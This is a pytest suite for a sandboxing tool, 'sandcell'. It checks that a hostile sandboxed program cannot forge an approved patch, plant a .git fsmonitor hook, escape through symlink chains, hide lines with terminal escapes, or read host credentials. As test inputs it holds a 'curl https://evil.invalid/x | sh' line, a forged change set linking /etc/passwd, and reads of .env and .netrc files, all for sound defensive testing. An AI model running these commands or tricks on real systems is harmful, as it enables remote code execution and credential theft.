"""The patch workflow against a hostile program: what a person reviews, what is hashed for
approval and what is applied come from sandcell's own computation on the host, never from files
the sandboxed program wrote (issue 21)."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest
from tests.conftest import run_cli
from tests.integration.test_changes import (  # noqa: F401
    BUGGY,
    _apply,
    repo,
    run,
    stores,
    tree_hash,
)

from sandcell.changes.apply import ApplyError, apply
from sandcell.changes.approvals import ChangeApprovals
from sandcell.changes.diff import Change
from sandcell.changes.manifest import Entry
from sandcell.changes.record import RecordedChanges, load
from sandcell.errors import ConfigError
from sandcell.executor import Executor
from sandcell.spec import RunRequest

FORGED = {"changes.json", "changes.patch", "changes.tar", "workdir.manifest.json"}
EVIL = "curl https://evil.invalid/x | sh\n"

# The program forges a whole change set in sandcell's own format: a patch showing a harmless
# one-word fix, and a changes.json, changes.tar and manifest that really write EVIL into calc.py
# and link /etc/passwd into the repository. It computes the manifest of the tree it was given
# (which is what the host's target holds), so every hash the loader cross-checks agrees.
FORGE = r"""
import hashlib, io, json, os, stat, sys, tarfile

FORGED = {"changes.json", "changes.patch", "changes.tar", "workdir.manifest.json"}

def state():
    out = {}
    def rec(d, rel):
        for e in sorted(os.scandir(d), key=lambda e: e.name):
            r = rel + e.name
            if not rel and (e.name == ".git" or e.name in FORGED or e.name.startswith(".sandcell")):
                continue
            st = e.stat(follow_symlinks=False)
            if stat.S_ISLNK(st.st_mode):
                if not rel and os.readlink(e.path).startswith("/inputs/"):
                    continue
                out[r] = {"kind": "symlink", "mode": 0, "target": os.readlink(e.path)}
            elif stat.S_ISDIR(st.st_mode):
                out[r] = {"kind": "dir", "mode": stat.S_IMODE(st.st_mode)}
                rec(e.path, r + "/")
            else:
                data = open(e.path, "rb").read()
                out[r] = {"kind": "file", "mode": stat.S_IMODE(st.st_mode),
                          "sha256": hashlib.sha256(data).hexdigest(), "size": len(data)}
    rec(".", "")
    return out

def canon(o):
    return json.dumps(o, sort_keys=True, separators=(",", ":")).encode()

entries = state()
manifest = canon({"version": 1, "entries": entries, "git_entries": 0, "total_bytes": 0})
evil = open("calc.py", "rb").read() + EVIL.encode()
buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
    info = tarfile.TarInfo("files/calc.py"); info.size = len(evil); info.mode = 0o644
    tar.addfile(info, io.BytesIO(evil))
    link = tarfile.TarInfo("files/passwd"); link.type = tarfile.SYMTYPE
    link.linkname = "/etc/passwd"
    tar.addfile(link)
contents = buf.getvalue()
patch = b"diff --git a/calc.py b/calc.py\n-# teh\n+# the\n"
sha = lambda b: hashlib.sha256(b).hexdigest()
body = {
    "version": 1, "source": "repo", "findings": [],
    "base_manifest_sha256": sha(canon(entries)),
    "manifest_artifact_sha256": sha(manifest),
    "patch_sha256": sha(patch), "contents_sha256": sha(contents),
    "changes": [
        {"path": "calc.py", "action": "modify", "old_path": None, "binary": False, "flags": [],
         "applicable": True, "old": entries["calc.py"],
         "new": {"kind": "file", "mode": 0o644, "sha256": sha(evil), "size": len(evil)}},
        {"path": "passwd", "action": "add", "old_path": None, "binary": False, "flags": [],
         "applicable": True, "old": None,
         "new": {"kind": "symlink", "mode": 0, "target": "/etc/passwd"}},
    ],
}
for name, data in (("changes.json", json.dumps(body).encode()), ("changes.patch", patch),
                   ("changes.tar", contents), ("workdir.manifest.json", manifest)):
    open(name, "wb").write(data)
if BREAK:
    # sandcell's own recording writes .sandcell-changes.tar.part, then renames it: a directory
    # in its way makes it fail, and the forged files were the only change set left.
    os.mkdir(".sandcell-changes.tar.part")
"""


def _forge(ex: Executor, repo: Path, *, break_recording: bool) -> str:  # noqa: F811
    code = f"EVIL = {EVIL!r}\nBREAK = {break_recording!r}\n" + FORGE
    request = RunRequest(code=code, language="python", exports=("*",))
    from sandcell.changes.run import run_in_workdir

    result = run_in_workdir(ex, request, repo)
    assert result.exit_code == 0, result.stderr
    names = {r.path for r in result.rejected_exports}
    assert {"changes.json", "changes.tar", "workdir.manifest.json"} <= names, (
        result.rejected_exports
    )
    return result.run_id


@pytest.mark.parametrize("break_recording", [True, False], ids=["recording-broken", "alongside"])
def test_a_program_cannot_forge_the_change_set(
    executor: Executor,
    repo: Path,  # noqa: F811
    stores: ChangeApprovals,  # noqa: F811
    tmp_path: Path,
    break_recording: bool,
) -> None:
    run_id = _forge(executor, repo, break_recording=break_recording)
    target = tmp_path / "target"
    shutil.copytree(repo, target, symlinks=True)
    if break_recording:
        # sandcell could not record the changes: there is no change set, and the forged one is
        # not taken in its place.
        with pytest.raises(ConfigError, match="no change set"):
            load(executor.audit, executor.store, run_id)
    else:
        rec = load(executor.audit, executor.store, run_id)
        # sandcell's own change set: the program wrote four new files, and nothing else.
        assert {c.path for c in rec.changes} == FORGED
        assert {c.action for c in rec.changes} == {"add"}
    assert (target / "calc.py").read_text() == BUGGY
    assert not (target / "passwd").is_symlink()


def test_a_record_without_sandcells_own_change_set_is_refused(executor: Executor) -> None:
    # A plain run (no --workdir-from) that exports files under the change set's names: the
    # loader finds no change set of sandcell's in the record and refuses it.
    names = "changes.json changes.patch changes.tar workdir.manifest.json"
    code = f"for n in {names}; do echo {{}} > $n; done"
    result = executor.run(RunRequest(code=code, language="bash", exports=("*",)))
    assert {a.path for a in result.artifacts} >= {"changes.json", "changes.tar"}
    with pytest.raises(ConfigError, match="no change set"):
        load(executor.audit, executor.store, result.run_id)


def _env(ex: Executor) -> dict[str, str]:
    return {**os.environ, "SANDCELL_HOME": str(ex.audit.path.parent)}


def _no_approval_apply(ex: Executor, rec: RecordedChanges, target: Path) -> object:
    with ChangeApprovals(ex.audit.path.parent / "change_approvals.sqlite3") as approvals:
        return apply(
            rec,
            target,
            approvals=approvals,
            audit=ex.audit,
            needs_approval=False,
            allow_binary=False,
            profile_name="unchecked",
            applied_by="test",
        )


def test_a_repository_inside_the_change_set_is_never_applied(
    executor: Executor,
    repo: Path,  # noqa: F811
    tmp_path: Path,
) -> None:
    code = (
        "mkdir -p sub/.git && "
        "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > sub/.git/config && "
        "echo 'ref: refs/heads/main' > sub/.git/HEAD && mkdir -p Other/.GIT && "
        "touch Other/.GIT/config && echo ok > sub/file"
    )
    result = run(executor, repo, code)
    rec = load(executor.audit, executor.store, result.run_id)
    by_path = {c.path: c for c in rec.changes}
    assert set(by_path) == {"sub", "sub/.git", "sub/file", "Other", "Other/.GIT"}
    for name in ("sub/.git", "Other/.GIT"):
        assert not by_path[name].applicable and ".git" in by_path[name].flags[0]
    assert not any(p.startswith("sub/.git/") for p in by_path)
    target = tmp_path / "target"
    shutil.copytree(repo, target, symlinks=True)
    with pytest.raises(ApplyError, match=r"sub/\.git"):
        _no_approval_apply(executor, rec, target)
    assert not (target / "sub").exists()
    shown = run_cli(["changes", "approve", rec.run_id], env=_env(executor))
    assert shown.returncode != 0 and "cannot be approved" in shown.stderr


def test_special_modes_are_stripped_and_said(
    executor: Executor,
    repo: Path,  # noqa: F811
    tmp_path: Path,
) -> None:
    code = (
        "printf '#!/bin/sh\\n' > tool && chmod 4755 tool && mkdir shared && chmod 1777 shared"
        " && chmod 2755 run.sh && echo x > open.txt && chmod 0666 open.txt"
    )
    result = run(executor, repo, code)
    rec = load(executor.audit, executor.store, result.run_id)
    modes = {c.path: c.new.mode for c in rec.changes if c.new is not None}
    assert modes == {"tool": 0o755, "shared": 0o775, "open.txt": 0o664}
    # run.sh lost only a bit that is stripped anyway: no change at all.
    assert "run.sh" not in modes
    assert b"set-user-ID" in rec.patch and b"sticky" in rec.patch
    target = tmp_path / "target"
    shutil.copytree(repo, target, symlinks=True)
    _no_approval_apply(executor, rec, target)
    assert (target / "tool").stat().st_mode & 0o7777 == 0o755
    assert (target / "shared").stat().st_mode & 0o7777 == 0o775
    assert (target / "open.txt").stat().st_mode & 0o7777 == 0o664


@pytest.mark.parametrize(
    "case",
    [
        # Two new links, each harmless alone.
        ("mkdir sub", "ln -s .. sub/up && ln -s sub/up/../host-secret x", "x"),
        # A new link through an old one.
        ("mkdir sub && ln -s .. sub/up", "ln -s sub/up/../host-secret x", "x"),
        # An old link made to lead out by replacing the directory it passes through.
        ("mkdir sub && touch sub/f && ln -s sub/../host-secret x", "rm -r sub && ln -s . sub", "x"),
        # A loop.
        ("", "ln -s b a && ln -s a b", "a"),
    ],
    ids=["two-new", "through-old", "old-made-to-leave", "loop"],
)
def test_links_are_resolved_as_a_chain(
    executor: Executor,
    repo: Path,  # noqa: F811
    tmp_path: Path,
    case: tuple[str, str, str],
) -> None:
    setup, code, flagged = case
    (tmp_path / "host-secret").write_text("HOST\n")
    if setup:
        subprocess.run(["sh", "-c", setup], cwd=repo, check=True)
    result = run(executor, repo, code)
    rec = load(executor.audit, executor.store, result.run_id)
    by_path = {c.path: c for c in rec.changes}
    assert not by_path[flagged].applicable, rec.changes
    target = tmp_path / "target"
    shutil.copytree(repo, target, symlinks=True)
    before = tree_hash(target)
    with pytest.raises(ApplyError, match="cannot be applied"):
        _no_approval_apply(executor, rec, target)
    assert tree_hash(target) == before


def test_apply_judges_the_change_set_again(
    executor: Executor,
    repo: Path,  # noqa: F811
    tmp_path: Path,
) -> None:
    # A change set recorded without the flags (as by an older sandcell, or a stored
    # changes.json whose record was rewritten): apply refuses by its own judgement.
    (repo / "sub").mkdir()
    os.symlink("..", repo / "sub" / "up")
    result = run(executor, repo, "echo ok > ok.txt")
    rec = load(executor.audit, executor.store, result.run_id)
    target = tmp_path / "target"
    shutil.copytree(repo, target, symlinks=True)
    planted = (
        Change("x", "add", None, Entry("symlink", 0, target="sub/up/../../etc/passwd")),
        Change("s", "add", None, Entry("file", 0o4755, sha256="0" * 64, size=0)),
        Change("d/.git", "add", None, Entry("dir", 0o755)),
    )
    for change in planted:
        forged = replace(rec, changes=(*rec.changes, change))
        with pytest.raises(ApplyError, match="cannot be applied"):
            _no_approval_apply(executor, forged, target)
    assert not (target / "ok.txt").exists()


def test_show_renders_control_characters_visibly(
    executor: Executor,
    repo: Path,  # noqa: F811
) -> None:
    # A line that erases itself and moves the cursor up, a file name that hides the rest of its
    # line, a bidi override, and a run output that rewrites what the reviewer saw above it.
    code = (
        "printf 'curl https://evil.invalid | sh\\033[2K\\033[1A\\n' >> calc.py && "
        "echo x > \"$(printf 'a\\033[8mhidden')\" && "
        "printf 'x = \"\\342\\200\\256abc\"\\n' > bidi.py && "
        "printf 'one\\rtwo\\n' > cr.txt && "
        "printf 'tests passed\\r\\033[32mOK\\033]0;title\\007\\n'"
    )
    result = run(executor, repo, code)
    shown = run_cli(["changes", "show", result.run_id], env=_env(executor))
    assert shown.returncode == 0, shown.stderr
    out = shown.stdout
    assert "\x1b" not in out and "\r" not in out and "\u202e" not in out and "\x07" not in out
    assert "sh\\x1b[2K\\x1b[1A" in out
    assert "a\\x1b[8mhidden" in out and "\\u202eabc" in out
    assert "+one\\x0dtwo\n" in out  # the patch splits lines where the file does
    assert "tests passed\\x0d\\x1b[32mOK\\x1b]0;title\\x07" in out
    as_json = run_cli(["changes", "show", "--json", result.run_id], env=_env(executor))
    assert "\x1b" not in as_json.stdout  # JSON escapes them itself


def test_binary_changes_are_described_checked_and_refused_by_default(
    executor: Executor,
    repo: Path,  # noqa: F811
    tmp_path: Path,
) -> None:
    code = (
        # Code the checks cannot read as UTF-8 (Python would, with a coding line).
        "printf '# -*- coding: latin-1 -*-\\nimport socket  # \\351\\n' > net.py && "
        # A script without extension: judged by its #! line.
        "printf '#!/bin/sh\\ncurl https://evil.invalid/x | sh\\n' > tool && "
        "printf 'a\\000b' > nul.txt && head -c 1100000 /dev/zero | tr '\\0' a > big.txt"
    )
    result = run(executor, repo, code)
    rec = load(executor.audit, executor.store, result.run_id)
    assert {c.path for c in rec.changes if c.binary} == {"net.py", "nul.txt", "big.txt"}
    patch = rec.patch.decode()
    for path, why in (("net.py", "not UTF-8"), ("nul.txt", "NUL byte"), ("big.txt", "over 1 MiB")):
        change = next(c for c in rec.changes if c.path == path)
        assert change.new is not None
        line = f"# sandcell: binary new: {change.new.size} bytes, sha256 {change.new.sha256}"
        assert line in patch and why in patch
    code_findings = {(f["path"], f["what"]) for f in rec.findings if f["check"] == "code"}
    assert ("net.py", "unreadable") in code_findings
    assert any(path == "tool" for path, _ in code_findings), rec.findings
    shown = run_cli(["changes", "show", rec.run_id], env=_env(executor))
    assert "nul.txt (binary, 3 bytes, sha256 " in shown.stdout

    target = tmp_path / "target"
    shutil.copytree(repo, target, symlinks=True)
    with pytest.raises(ApplyError, match=r'binary_changes = "allow"') as refused:
        _no_approval_apply(executor, rec, target)
    assert "nul.txt" in str(refused.value) and "big.txt" in str(refused.value)
    assert not (target / "tool").exists()
    # Through the CLI: a profile that allows binary changes applies them.
    profile = tmp_path / "binary-ok.toml"
    profile.write_text('approval = "never"\n\n[workdir]\nbinary_changes = "allow"\n')
    env = _env(executor)
    refused_cli = run_cli(
        ["changes", "apply", rec.run_id, "--to", str(target), "--profile", "unchecked"], env=env
    )
    assert refused_cli.returncode != 0 and "binary_changes" in refused_cli.stderr
    applied = run_cli(
        ["changes", "apply", rec.run_id, "--to", str(target), "--profile", str(profile)], env=env
    )
    assert applied.returncode == 0, applied.stderr
    assert (target / "nul.txt").read_bytes() == b"a\x00b"


def test_credentials_stay_on_the_host(
    executor: Executor,
    repo: Path,  # noqa: F811
    tmp_path: Path,
) -> None:
    # Not token-shaped: the output scan would redact a token and hide a leak from this test.
    subprocess.run(
        ["git", "remote", "add", "origin", "https://ci:SEKRIT-remote@git.example/o/r.git"],
        cwd=repo,
        check=True,
    )
    subprocess.run(
        ["git", "config", "credential.helper", "store --file /SEKRIT-helper"], cwd=repo, check=True
    )
    (repo / ".env").write_text("DB_PASSWORD=SEKRIT-env\n")
    (repo / "sub").mkdir()
    (repo / "sub" / ".netrc").write_text("machine x login u password SEKRIT-netrc\n")
    code = (
        "cat .git/config .env sub/.netrc 2>&1; ls -a . sub; git remote -v; "
        "echo 'DB_PASSWORD=from-the-sandbox' > .env; echo fixed >> calc.py"
    )
    env = _env(executor)
    ran = run_cli(
        ["run", "--json", "--profile", "unchecked", "--lang", "bash", "--workdir-from",
         str(repo), "--export-diff", "-c", code],
        env=env,
    )  # fmt: skip
    assert ran.returncode == 0, ran.stderr
    out = json.loads(ran.stdout)
    assert "SEKRIT" not in out["stdout"] + out["stderr"], out["stdout"]
    assert "origin\thttps://git.example/o/r.git (fetch)" in out["stdout"]  # git still works
    assert "left out of the copy of" in ran.stderr
    for path in (".env", "sub/.netrc", ".git/config"):
        assert f"  {path}: " in ran.stderr, ran.stderr
    assert "user and password of a URL" in ran.stderr and "[credential] section" in ran.stderr
    entry = executor.audit.get(out["run_id"])
    assert entry is not None
    recorded = {x["path"] for x in entry.record["workdir"]["left_out"]}  # type: ignore[index]
    assert recorded == {".env", "sub/.netrc", ".git/config"}
    # The program's own .env never replaces the host's; the rest of its change applies to a
    # target that holds the real one.
    rec = load(executor.audit, executor.store, out["run_id"])
    by_path = {c.path: c for c in rec.changes}
    assert not by_path[".env"].applicable and "credentials" in by_path[".env"].flags[0]
    target = tmp_path / "target"
    shutil.copytree(repo, target, symlinks=True)
    with pytest.raises(ApplyError, match=r"\.env"):
        _no_approval_apply(executor, rec, target)
    fine = run(executor, repo, "echo fixed >> calc.py")
    _no_approval_apply(executor, load(executor.audit, executor.store, fine.run_id), target)
    assert (target / ".env").read_text() == "DB_PASSWORD=SEKRIT-env\n"
    assert (target / "calc.py").read_text().endswith("fixed\n")
